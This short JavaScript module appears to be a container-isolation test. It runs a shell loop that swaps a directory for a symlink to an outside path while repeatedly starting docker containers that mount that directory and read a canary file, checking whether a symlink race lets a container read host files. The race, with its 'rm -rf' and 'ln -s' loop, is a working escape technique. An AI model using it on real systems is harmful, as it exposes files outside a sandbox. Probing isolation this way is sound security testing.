const swap =
  'end=$(($(date +%s) + 8)); while [ $(date +%s) -lt $end ]; do for i in 1 2 3 4 5 6 7 8 9 10; do rm -rf d; mkdir d; rm -rf d; ln -s "$1" d; rm d; done; done';

export default async ({ arena }, host) => {
  const swapping = host.exec.run({ command: 'sh', args: ['-c', swap, 'sh', arena.outside] }).catch(() => {});
  const seen = [];
  for (let round = 0; round < 12; round += 1) {
    const container = {
      image: arena.image,
      command: ['sh', '-c', 'cat /m/canary.txt'],
      stdout: 'capture',
      stderr: 'capture',
      pull: 'never',
    };
    const ran = await host
      .call('docker', 'run', { ...container, mounts: [{ path: 'd', target: '/m' }] })
      .catch((error) => error.code);
    seen.push(ran.stdout ?? ran);
  }
  await swapping;
  return { seen };
};
